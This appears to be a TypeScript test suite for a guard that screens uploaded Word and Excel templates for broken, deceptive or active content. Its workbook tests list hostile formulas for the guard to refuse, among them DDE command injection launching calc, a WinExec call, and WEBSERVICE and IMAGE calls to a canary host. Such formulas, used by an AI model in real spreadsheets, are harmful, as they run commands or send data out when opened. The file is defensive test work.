import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { buildDocx, docxEntries } from '#tests/support/office/build-docx.ts';
import { buildXlsx } from '#tests/support/office/build-xlsx.ts';
import { dialectCases } from '#tests/support/office/cases-dialects.ts';
import { placeCases } from '#tests/support/office/cases-places.ts';
import { splitCases } from '#tests/support/office/cases-splits.ts';
import { activeFiles, brokenFiles, lyingArchives } from '#tests/support/office/hostile-files.ts';
import { makePng } from '#tests/support/office/make-png.ts';
import { rawZip } from '#tests/support/office/raw-zip.ts';
import { sampleFilling } from '#tests/support/office/sample-values.ts';
import { p, paragraph, picture, run } from '#tests/support/office/word-markup.ts';
import { fillDocx } from '#office/fill-docx.ts';
import { guardDocx } from '#office/guard-docx.ts';
import { guardXlsx } from '#office/guard-xlsx.ts';
import { MIB } from '#office/limits.ts';
import { type RefusalCode, refusalMessage } from '#office/refusal.ts';

const MAX_MS = 1000;
const MAX_ADDED_BYTES = 64 * MIB;

const measured = async (file: Buffer) => {
  const before = process.memoryUsage().rss;
  const start = process.cpuUsage();
  const refusal = await guardDocx(file);
  const { user, system } = process.cpuUsage(start);
  return { refusal, cpuMs: (user + system) / 1000, addedBytes: process.memoryUsage().rss - before };
};

const cell = (formula: string) => buildXlsx({ rows: `<row r="2"><c r="B2"><f>${formula}</f></c></row>` });

const groups = {
  'a file that is no Word document': brokenFiles,
  'an archive that lies': lyingArchives,
  'a document that does more than hold text': activeFiles,
};

describe.each(Object.entries(groups))('the guard refuses %s', (_, files) => {
  test.each(files)('$name', async ({ file, code }) => {
    const { refusal, cpuMs, addedBytes } = await measured(file());
    expect(refusal).toMatchObject({ code, message: refusalMessage(code as RefusalCode) });
    expect(cpuMs).toBeLessThan(MAX_MS);
    expect(addedBytes).toBeLessThan(MAX_ADDED_BYTES);
  });
});

describe('the guard', () => {
  const honest = [...placeCases, ...dialectCases, ...splitCases].filter(
    ({ name }) => name !== 'the alternative text of a picture',
  );

  test.each(honest)('lets an honest document pass: $name', async ({ file }) => {
    expect(await guardDocx(await file())).toBeUndefined();
  });

  test.each([
    'file:///C:\\t.dotx',
    'D:\\x\\t.dotm',
    'Macintosh%20HD:Users:ann:t.dotx',
    'file:///Users/ann/t.dotx',
  ])('lets a document pass that was made with the template %s', async (target) => {
    const file = buildDocx({
      settings: '<w:attachedTemplate r:id="r1"/>',
      partRelationships: {
        'word/settings.xml': [{ id: 'r1', type: 'attachedTemplate', target, external: true }],
      },
    });
    expect(await guardDocx(file)).toBeUndefined();
  });

  test('lets pictures, vector pictures and metafiles of an honest document pass', async () => {
    const pictures = {
      'a.png': makePng(10, 10),
      'b.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><rect id="r" fill="url(#g)"/><use href="#r"/><image href="data:image/png;base64,AA=="/></svg>',
      'c.emf': Buffer.from([1, 0, 0, 0, 9, 9]),
      'd.gif': Buffer.from('47494638396101000100', 'hex'),
      'e.jpeg': Buffer.from(
        'ffd8ffe000104a46494600010100000100010000ffdb000300ffc0001100100010030122000211010311010000000000',
        'hex',
      ),
    };
    const file = buildDocx({
      body: paragraph(run(picture({ id: 'rId1' }))),
      defaults: {
        png: 'image/png',
        svg: 'image/svg+xml',
        emf: 'image/x-emf',
        gif: 'image/gif',
        jpeg: 'image/jpeg',
      },
      parts: Object.entries(pictures).map(([name, content]) => ({ name: `word/media/${name}`, content })),
    });
    expect(await guardDocx(file)).toBeUndefined();
  });

  test.each([
    ['zeroes', Buffer.alloc(900)],
    ['an end of line', Buffer.from('\r\n')],
    ['the end of a file of long ago', Buffer.from('\u001A')],
  ])('lets a file pass that was filled up with %s, which customers do not get', async (_, suffix) => {
    const file = rawZip({ entries: docxEntries({ body: p('{{city}}') }), suffix });
    expect(await guardDocx(file)).toBeUndefined();
    const plain = fillDocx(rawZip({ entries: docxEntries({ body: p('{{city}}') }) }), sampleFilling);
    expect(fillDocx(file, sampleFilling).equals(plain)).toBe(true);
  });

  test('lets pictures pass whatever their type is called', async () => {
    const file = buildDocx({
      parts: [
        { name: 'word/media/a.bin', content: makePng(1, 1), type: 'application/octet-stream', use: 'image' },
      ],
    });
    expect(await guardDocx(file)).toBeUndefined();
  });

  test('names the part it does not like', async () => {
    const file = buildDocx({ parts: [{ name: 'customXml/item1.xml', content: '<!DOCTYPE x><x/>' }] });
    expect(await guardDocx(file)).toMatchObject({ part: 'customXml/item1.xml' });
  });

  test('survives every damage to the bytes of a file with an answer', async () => {
    const file = buildDocx({
      body: p('{{city}}'),
      parts: [{ name: 'word/media/a.png', content: makePng(3, 3), type: 'image/png' }],
    });
    const damage = fc.array(fc.tuple(fc.nat(file.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 });
    await fc.assert(
      fc.asyncProperty(damage, fc.nat(file.length), async (changes, length) => {
        const damaged = Buffer.from(file.subarray(0, length < 40 ? length : file.length));
        for (const [at, byte] of changes) if (at < damaged.length) damaged[at] = byte;
        const refusal = await guardDocx(damaged);
        expect(refusal?.message).toBe(refusal && refusalMessage(refusal.code));
      }),
      { numRuns: 400 },
    );
  });
});

describe('the guard of workbooks', () => {
  test.each([
    "cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "Table1['#x]+cmd|'/c calc'!A0",
    'WEBSERVICE(&quot;http://canary.test/&quot;&amp;A1)',
    '_xlfn.WEBSERVICE(A1)',
    'IF(A1,RTD(&quot;x&quot;,,&quot;y&quot;))',
    'CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;)',
    '_xlfn.IMAGE(&quot;https://canary.test/x.png&quot;)',
    '[1]Sheet1!A1',
    "'C:\\x\\[other.xlsx]Sheet1'!A1",
    'INDIRECT(&quot;[other.xlsx]Sheet1!A1&quot;)',
    'HYPERLINK(&quot;vnd.sun.star.script:x&quot;,1)',
    'HYPERLINK(&quot;\\\\host\\share&quot;)',
    'HYPERLINK(A1)',
  ])('refuses the formula %s, and names its cell', async (formula) => {
    const refusal = await guardXlsx(cell(formula));
    expect(refusal).toMatchObject({ code: 'outside-formula', place: 'cell B2 of the sheet “Data”' });
    expect(refusal?.message).toBe(refusalMessage('outside-formula'));
  });

  test('counts to the cell of a formula where the workbook does not say it', async () => {
    const file = buildXlsx({ rows: '<row/><row><c r="AA2"/><c><f>WEBSERVICE(A1)</f></c></row>' });
    expect(await guardXlsx(file)).toMatchObject({ place: 'cell AB2 of the sheet “Data”' });
  });

  test.each([
    [
      'rules for cells',
      '<conditionalFormatting sqref="A1:B2"><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>',
      'the rule for the cells A1:B2 of the sheet “Data”',
    ],
    [
      'the list of a choice',
      '<dataValidations><dataValidation sqref="C3"><formula1>[1]X!A1</formula1></dataValidation></dataValidations>',
      'the rule for the cells C3 of the sheet “Data”',
    ],
  ])('refuses what reaches outside in %s', async (_, sheetTail, place) => {
    expect(await guardXlsx(buildXlsx({ sheetTail }))).toMatchObject({ code: 'outside-formula', place });
  });

  test.each([
    'SUM(Table1[[#This Row],[a|b]])',
    'IF(A1=&quot;a|b [1]x! WEBSERVICE(&quot;,1,2)',
    "SUM('a|b'!A1:A9)",
    'Table1[@Net]*2',
    'SUMIFS(Log!$F$7:$F$66,Log!$D$7:$D$66,&quot;Hot&quot;)',
    'HYPERLINK(&quot;https://acme.test/&quot;&amp;A1,&quot;x&quot;)',
    'HYPERLINK(&quot;#Data!A1&quot;)',
    'INDIRECT(&quot;A&quot;&amp;ROW())',
    '[0]!Rate*2',
  ])('lets the formula %s pass', async (formula) => {
    expect(await guardXlsx(cell(formula))).toBeUndefined();
  });

  test('lets an honest workbook pass', async () => {
    expect(await guardXlsx(buildXlsx({ strings: ['{{city}}'] }))).toBeUndefined();
  });

  test.each([
    ['a document called .xlsx', 'not-excel', buildDocx()],
    ['macros', 'macros', buildXlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' })],
    [
      'data connections',
      'data-connection',
      buildXlsx({ workbookRelationships: [{ id: 'r', type: 'connections', target: 'c.xml' }] }),
    ],
    [
      'links to other workbooks',
      'external-link',
      buildXlsx({ workbookRelationships: [{ id: 'r', type: 'externalLink', target: 'e.xml' }] }),
    ],
    [
      'embedded objects',
      'ole-object',
      buildXlsx({ sheetTail: '<oleObjects><oleObject progId="x"/></oleObjects>' }),
    ],
  ])('refuses %s', async (_, code, file) => {
    expect(await guardXlsx(file)).toMatchObject({ code });
  });
});
